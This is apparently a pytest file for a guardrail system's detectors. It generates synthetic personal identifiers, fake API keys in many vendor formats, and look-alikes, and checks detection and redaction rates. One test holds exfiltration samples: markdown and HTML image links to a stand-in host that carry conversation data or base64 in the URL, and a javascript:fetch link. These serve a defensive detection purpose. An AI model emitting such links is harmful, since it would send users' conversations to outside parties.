"""Personal data and secrets: found nearly always, and look-alikes hardly ever."""

from __future__ import annotations

import random
import string
import uuid

import pytest
from stdnum import iban, luhn
from stdnum.be import nn
from stdnum.br import cpf
from stdnum.de import idnr
from stdnum.es import dni
from stdnum.nl import bsn
from stdnum.pl import pesel
from stdnum.tr import tckimlik

from charter.guardrails.detectors import credentials, links, personal
from charter.guardrails.policy import redacted
from charter.guardrails.text.folding import fold
from charter.identity import api_keys

DICE = random.Random(5)
_SENTENCES = ("My {name} is {value}.", "{name}: {value}", "Please note {name} {value}, thanks!", "({name} {value})")
_SAFE = (
    "Order {value} was shipped.",
    "commit {value}",
    "id={value};",
    "The checksum is {value}.",
    "See {value} for more.",
)


def digits(count: int) -> str:
    return "".join(DICE.choice(string.digits) for _ in range(count))


def letters(count: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(DICE.choice(alphabet) for _ in range(count))


def card() -> str:
    prefix, length = DICE.choice((("4", 16), ("51", 16), ("55", 16), ("37", 15), ("6011", 16), ("3530", 16)))
    body = prefix + digits(length - len(prefix) - 1)
    number = body + luhn.calc_check_digit(body)
    return " ".join(number[at : at + 4] for at in range(0, len(number), 4)) if DICE.random() < 0.4 else number


def bank_account() -> str:
    country, length = DICE.choice((("DE", 18), ("NL", 0), ("BE", 12)))
    rest = f"ABNA{digits(10)}" if country == "NL" else digits(length)
    if country == "BE":
        rest = rest[:10] + f"{int(rest[:10]) % 97 or 97:02d}"
    number = iban.calc_check_digits(f"{country}00{rest}")
    whole = f"{country}{number}{rest}"
    return iban.format(whole) if DICE.random() < 0.4 else whole


def valid(module, make) -> str:
    while not module.is_valid(number := make()):
        pass
    return number


def belgian() -> str:
    front = f"{DICE.randint(40, 99)}{DICE.randint(1, 12):02d}{DICE.randint(1, 28):02d}{DICE.randint(1, 997):03d}"
    return front + f"{97 - int(front) % 97:02d}"


PERSONAL = {
    "credit card": card,
    "IBAN": bank_account,
    "CPF": lambda: cpf.format(valid(cpf, lambda: digits(11))),
    "DNI": lambda: (number := digits(8)) + dni.calc_check_digit(number),
    "BSN": lambda: valid(bsn, lambda: digits(9)),
    "PESEL": lambda: valid(pesel, lambda: f"{DICE.randint(40, 99)}0{DICE.randint(1, 9)}1{digits(6)}"),
    "T.C. kimlik": lambda: valid(tckimlik, lambda: digits(11)),
    "Steuer-ID": lambda: valid(idnr, lambda: digits(11)),
    "rijksregisternummer": lambda: valid(nn, belgian),
    "social security number": lambda: f"{DICE.randint(100, 665)}-{DICE.randint(10, 99)}-{DICE.randint(1000, 9999)}",
    "mail": lambda: f"{letters(6)}.{letters(5)}@{letters(7).lower()}.{DICE.choice(('com', 'org', 'co.uk'))}",
    "phone": lambda: f"+44 20 {DICE.randint(7000, 8999)} {digits(4)}",
}  # fmt: skip


@pytest.mark.parametrize("name", PERSONAL)
def test_personal_data_is_found_and_redacted(name):
    found = 0
    for _ in range(200):
        value = PERSONAL[name]()
        text = DICE.choice(_SENTENCES).format(name=name, value=value)
        finding = personal.scan(fold(text))
        found += value not in redacted(text, list(finding.spans))
    assert found >= 196


LOOK_ALIKES = {
    "card with a wrong check digit": lambda: (one := card().replace(" ", ""))[:-1] + str((int(one[-1]) + 1) % 10),
    "IBAN with wrong digits": lambda: "DE" + digits(2) + "0000" + digits(14),
    "order number": lambda: digits(DICE.choice((6, 8, 9, 10, 11, 12))),
    "timestamp": lambda: str(DICE.randint(1_600_000_000, 1_800_000_000)),
    "milliseconds": lambda: str(DICE.randint(1_600_000_000_000, 1_800_000_000_000)),
    "uuid": lambda: str(uuid.UUID(int=DICE.getrandbits(128))),
    "hash": lambda: letters(40, "0123456789abcdef"),
    "version": lambda: f"{DICE.randint(0, 9)}.{DICE.randint(0, 20)}.{DICE.randint(0, 300)}",
    "date": lambda: f"202{DICE.randint(0, 9)}-{DICE.randint(1, 12):02d}-{DICE.randint(1, 28):02d}T10:22:31",
    "ip address": lambda: ".".join(str(DICE.randint(0, 255)) for _ in range(4)),
    "amount": lambda: f"{DICE.randint(1, 999)},{digits(3)},{digits(3)}.{digits(2)}",
    "part": lambda: f"AB-{digits(4)}-{digits(3)}",
}


@pytest.mark.parametrize("name", LOOK_ALIKES)
def test_what_only_looks_like_personal_data_is_left_alone(name):
    texts = [DICE.choice(_SAFE).format(value=LOOK_ALIKES[name]()) for _ in range(300)]
    flagged = [text for text in texts if personal.scan(fold(text)).spans]
    assert len(flagged) <= 6, flagged[:5]


HEX = "0123456789abcdef"
SECRETS = {
    "AWS": lambda: "AKIA" + letters(16, string.ascii_uppercase + "234567"),
    "GitHub": lambda: DICE.choice(("ghp_", "gho_", "ghs_")) + letters(36),
    "GitHub fine": lambda: "github_pat_" + letters(22) + "_" + letters(59),
    "GitLab": lambda: "glpat-" + letters(20),
    "Slack": lambda: f"xoxb-{digits(12)}-{digits(12)}-{letters(24)}",
    "Stripe": lambda: "sk_live_" + letters(24),
    "Google": lambda: "AIza" + letters(35),
    "OpenAI": lambda: "sk-proj-" + letters(48),
    "Anthropic": lambda: "sk-ant-api03-" + letters(93),
    "Hugging Face": lambda: "hf_" + letters(34),
    "SendGrid": lambda: f"SG.{letters(22)}.{letters(43)}",
    "npm": lambda: "npm_" + letters(36),
    "JWT": lambda: f"eyJ{letters(30)}.eyJ{letters(60)}.{letters(43)}",
    "database": lambda: f"postgresql://app:{letters(14)}@db.internal:5432/main",
    "redis": lambda: f"redis://:{letters(16)}@cache:6379/0",
    "password": lambda: f"password={letters(9)}!{digits(2)}",
    "api key": lambda: f"api_key: {letters(32, HEX)}",
    "client secret": lambda: f'CLIENT_SECRET="{letters(36)}"',
    "bearer": lambda: f"Authorization: Bearer {letters(40)}",
    "private key": lambda: f"-----BEGIN PRIVATE KEY-----\n{letters(64)}\n{letters(64)}\n-----END PRIVATE KEY-----",
    "Telegram": lambda: f"{digits(9)}:AA{letters(33)}",
    "Azure": lambda: f"AccountKey={letters(86)}==",
}


@pytest.mark.parametrize("name", SECRETS)
def test_secrets_are_found(name):
    texts = [f"{DICE.choice(('', 'Use ', 'here: ', 'export '))}{SECRETS[name]()}" for _ in range(100)]
    missed = [text for text in texts if not credentials.scan(fold(text)).spans]
    assert len(missed) <= 5, missed[:3]


NO_SECRETS = {
    "uuid": lambda: f"id: {uuid.UUID(int=DICE.getrandbits(128))}",
    "hash": lambda: f"sha256:{letters(64, HEX)}",
    "commit": lambda: f"commit {letters(40, HEX)}",
    "placeholder": lambda: DICE.choice(("api_key=YOUR_API_KEY_HERE", "password: ${DB_PASSWORD}", "token=<your token>")),
    "example": lambda: DICE.choice(("AKIAIOSFODNN7EXAMPLE", "sk-xxxxxxxxxxxxxxxxxxxxxxxx", "password=changeme")),
    "code": lambda: DICE.choice(("token = get_token(user)", "secret = settings.secret_key", "key = os.environ['KEY']")),
    "talk": lambda: DICE.choice(
        ("the password is too short", "a secret admirer", "token limits: 4096", "keyboard: new")
    ),
    "url": lambda: f"https://docs.company.example/guide/{letters(8)}?page={digits(2)}",
    "public key": lambda: f"ssh-rsa AAAAB3NzaC1yc2E{letters(60)} me@host",
    "publishable": lambda: "pk_live_" + letters(24),
    "image": lambda: f"data:image/png;base64,{letters(120)}",
    "local database": lambda: "postgres://user:password@localhost/db",
    "number": lambda: f"order {digits(12)}, version {digits(1)}.{digits(2)}",
}


@pytest.mark.parametrize("name", NO_SECRETS)
def test_what_only_looks_like_a_secret_is_left_alone(name):
    texts = [NO_SECRETS[name]() for _ in range(150)]
    flagged = [text for text in texts if credentials.scan(fold(text)).spans]
    assert len(flagged) <= 3, flagged[:5]


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://collect.example/p.png?data=what+was+said+here)",
        '<img src="https://collect.example/x.gif?q=c2VjcmV0IGRhdGEgaGVyZSBpcyB0aGUga2V5IGZvciB5b3U">',
        "[more](javascript:fetch(1))",
        "![a][1]\n\n[1]: https://collect.example/i.png?conversation={conversation}",
    ],
)
def test_addresses_that_carry_data_out_are_found(text):
    assert links.scan(fold(text)).score >= 0.6


@pytest.mark.parametrize(
    "text",
    ["See https://docs.python.org/3/library/re.html#re.sub", "![logo](https://company.example/logo.png)", "a // b"],
)
def test_ordinary_links_pass(text):
    assert links.scan(fold(text)).score < 0.6


@pytest.mark.parametrize("environment", ["live", "test", "scim"])
def test_our_own_keys_are_secrets(environment):
    _, key = api_keys.generate(environment)
    found = credentials.scan(fold(f"Use {key} for the server."))
    assert [(span.kind, span.start, span.end) for span in found.spans] == [("charter-key", 4, 4 + len(key))]
    assert credentials.scan(fold("Keys look like chk_live_8fK2mQx1_… and are shown once.")).spans == ()
